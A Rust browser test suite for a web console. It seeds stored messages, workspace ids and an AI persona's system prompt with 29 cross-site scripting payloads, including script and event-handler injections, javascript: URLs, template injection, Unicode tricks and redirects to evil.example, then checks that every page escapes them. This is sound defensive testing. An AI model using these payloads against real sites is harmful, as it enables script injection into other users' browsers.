//! Payloads that would run in a browser as markup are in every stored text, and are shown as text on every page.

use reqwest::{Response, StatusCode};
use serde_json::{Value, json};

use crate::browser::Browser;
use crate::browser::console::sign_in;
use crate::browser::forms::submit;
use crate::browser::tab::Tab;
use crate::console::harness::{ADMIN, client, get, set_tokens};
use crate::console::walk::{PageForm, Walk};
use crate::generated::{GeneratedHistory, Place};
use crate::program::{Home, Program};

/// Each payload would set `window.pwned`, or create an element that no page has.
const PAYLOADS: [&str; 29] = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    "\"><img src=x onerror=window.pwned=4>",
    "' onmouseover='window.pwned=5' x='",
    "\" autofocus onfocus=\"window.pwned=6\" x=\"",
    "javascript:window.pwned=7",
    "<a href=javascript:window.pwned=8>go</a>",
    "[go](javascript:window.pwned=9)",
    "<svg onload=window.pwned=10>",
    "<svg><script>window.pwned=11</script></svg>",
    "<math><mtext><style><img src=x onerror=window.pwned=12></style></mtext></math>",
    "</textarea><script>window.pwned=13</script>",
    "</title><script>window.pwned=14</script>",
    "</style><script>window.pwned=15</script>",
    "</pre></code><iframe srcdoc='<script>parent.pwned=16</script>'></iframe>",
    "<!--><img src=x onerror=window.pwned=17>-->",
    "]]><pwned-element></pwned-element>",
    "<style>*{background:url(/pwned)}</style>",
    "<p style=\"position:fixed;inset:0\" id=pwned>cover</p>",
    "<form action=//evil.example><button name=order>pwned</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "{{constructor.constructor('window.pwned=24')()}} ${window.pwned=24} <%= 24 %> {% raw %}",
    "&lt;script&gt;window.pwned=25&lt;/script&gt; &#60;img src=x onerror=window.pwned=25&#62;",
    "\u{202e}\u{2066}<b>txet\u{2069}\u{202c} \u{200b}\u{200d}\u{feff}\u{ad}",
    "<scr\u{200b}ipt>window.pwned=27</scr\u{200b}ipt>\u{ff1c}script\u{ff1e}window.pwned=27",
    "`onerror=window.pwned=28 \\\"><\\x3cscript>\\u003cscript>",
    "#\" onclick=\"window.pwned=29\" &quot; &amp; %22%3E%3Cscript%3E",
];

/// Records what the page's content security policy blocks, and each dialog, before any other script runs in the page.
const LISTEN: &str = "
    window.trouble = [];
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
        window.trouble.push(`${violatedDirective} ${blockedURI} ${sample}`));
    for (const dialog of ['alert', 'confirm', 'prompt', 'print', 'open'])
        window[dialog] = () => window.trouble.push(dialog);";

/// Returns elements that the payloads create and no page has.
const FOUND: &str = "
    const names = 'pwned-element, #pwned, math, iframe, object, embed, base, meta[http-equiv], style, [srcdoc]'
        + ', script:not([src], [type=\"application/json\"]), [href^=\"javascript:\" i], [href*=\"//evil.example\"]'
        + ', [action*=\"evil.example\"], [style*=\"fixed\"]';
    const isHostile = (element) => element.matches(names)
        || [...element.attributes].some(({ name }) => name.startsWith('on'));
    return {
        trouble: window.trouble,
        pwned: window.pwned ?? null,
        hostile: [...document.querySelectorAll('*')].filter(isHostile).map((it) => it.outerHTML.slice(0, 200)),
    }";

/// Each word contains all payloads, in rotated order. The ids of a workspace and a channel are hostile, too.
fn history() -> GeneratedHistory {
    let rotated = |number: usize| {
        let mut payloads = PAYLOADS;
        payloads.rotate_left(number);
        payloads.join("\n")
    };
    let words: Vec<String> = (0..PAYLOADS.len()).step_by(3).map(rotated).collect();
    let evil = "evil:\"><img src=x onerror=window.pwned=40>";
    let channel = "C\"><script>window.pwned=41</script>/../?#";
    GeneratedHistory {
        places: vec![
            Place::new("T0GARDEN", "C0TEA", PAYLOADS[0], "public"),
            Place::new("T0GARDEN", "C0ATTIC", PAYLOADS[3], "private"),
            Place::new(evil, channel, PAYLOADS[13], "public"),
        ],
        public_words: words.clone(),
        private_words: words,
        messages: 180,
        decisions: 18,
    }
}

#[tokio::test]
async fn nothing_that_is_stored_runs_on_any_page() {
    let home = Home::new(1000.0);
    set_tokens(&home);
    home.add(&format!("persona:\n  name: Hilda<b>\n  system_prompt: {}\n", system_prompt()));
    assert_eq!(home.start().stop(), Some(0));
    let history = history();
    history.write(&home).await;
    let program = home.start();
    let mut walk = Walk::new(&home, &history.places, PAYLOADS[3], PAYLOADS[3]).await;
    let mut addresses = walk.pages();
    addresses.extend(walk.trials());
    expect_escaped(&program, &addresses).await;
    expect_escaped_answers(&program, &walk.forms()).await;

    // A browser opens the pages of the hostile workspace, which contain each text, and the pages without a workspace.
    walk.places = &history.places[2..];
    let mut addresses = walk.pages();
    addresses.extend(walk.trials());
    addresses.retain(|it| {
        !["/live", "/ready", "/metrics", ".json", ".css"].iter().any(|end| it.ends_with(end))
    });
    let browser = Browser::start_undrawn_in("en-US").await;
    let tab = browser.blank().await;
    tab.run_on_new_pages(LISTEN).await;
    sign_in(&tab, &program, ADMIN).await;
    let nothing = json!({ "trouble": [], "pwned": null, "hostile": [] });
    for address in &addresses {
        tab.open_page(&format!("{}{address}", program.address)).await;
        assert_eq!(tab.evaluate(FOUND).await, nothing, "{address}");
    }
    for form in &walk.forms() {
        submit(&tab, &program, form).await;
        assert_eq!(tab.evaluate(FOUND).await, nothing, "{}", form.path);
    }
    expect_live_text(&tab, &program, &nothing).await;
    // Anything that would run is recorded, so that nothing is missed.
    tab.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 0\">')",
    )
    .await;
    tab.expect_result("return window.trouble.length > 0", json!(true)).await;
    assert_eq!(tab.evaluate("return window.pwned ?? null").await, Value::Null);
    browser.close().await;
    assert_eq!(program.stop(), Some(0));
}

/// Returns all payloads, quoted for the config.
fn system_prompt() -> String {
    let quoted = json!(PAYLOADS.join("\n")).to_string().replace("${", "$${");
    let escape = |character: char| match character.is_ascii() {
        true => character.to_string(),
        false => format!("\\u{:04x}", u32::from(character)),
    };
    quoted.chars().map(escape).collect()
}

/// Checks that no page has a payload as markup, and that the pages have all payloads as text.
async fn expect_escaped(program: &Program, addresses: &[String]) {
    let mut with_all = 0;
    for address in addresses {
        let shown = escaped_text(get(program, Some(ADMIN), address).await, address).await;
        with_all += usize::from(PAYLOADS.iter().all(|payload| shown.contains(&escaped(payload))));
    }
    assert!(with_all > addresses.len() / 2, "{with_all} of {}", addresses.len());
}

/// Like [`expect_escaped`], for pages that respond to a form.
async fn expect_escaped_answers(program: &Program, forms: &[PageForm]) {
    let mut with_some = 0;
    for form in forms {
        let shown = escaped_text(form.send(program, ADMIN, "en").await, &form.path).await;
        with_some += usize::from(PAYLOADS.iter().any(|payload| shown.contains(&escaped(payload))));
    }
    assert!(with_some > forms.len() / 2, "{with_some} of {}", forms.len());
}

/// Returns the page at an address, after checking that no stored text in it is markup.
async fn escaped_text(answer: Response, address: &str) -> String {
    let is_markup = |payload: &&&str| payload.contains(['<', '>', '"', '\'', '&']);
    assert_eq!(answer.status(), StatusCode::OK, "{address}");
    let is_page = answer.headers()["content-type"].to_str().unwrap().starts_with("text/html");
    let shown = answer.text().await.unwrap();
    let raw = PAYLOADS.iter().filter(is_markup).find(|payload| shown.contains(**payload));
    assert!(raw.is_none() || !is_page, "{address} has {raw:?}: {shown}");
    assert!(!shown.contains("href=\"javascript:"), "{address}: {shown}");
    shown
}

/// Returns the text as escaped by the templates.
fn escaped(text: &str) -> String {
    let escape = |character: char| match character {
        '<' | '>' | '"' | '\'' | '&' => format!("&#{};", u32::from(character)),
        character => character.to_string(),
    };
    text.chars().map(escape).collect()
}

/// A script updates an open timeline.
async fn expect_live_text(tab: &Tab, program: &Program, nothing: &Value) {
    tab.open_page(&format!("{}/console/channels/local/general", program.address)).await;
    tab.find("empty").await;
    for text in [PAYLOADS[3], PAYLOADS[15]] {
        let said = json!({ "channel": "general", "user": "Mallory", "text": text });
        let said = client().post(format!("{}/api/messages", program.address)).json(&said);
        assert_eq!(said.bearer_auth(ADMIN).send().await.unwrap().status(), StatusCode::CREATED);
    }
    let texts = "return [...document.querySelectorAll('[data-testid=row] .text')].map((text) => text.textContent)";
    tab.expect_result(texts, json!([PAYLOADS[3], PAYLOADS[15]])).await;
    assert_eq!(tab.evaluate(FOUND).await, *nothing);
}
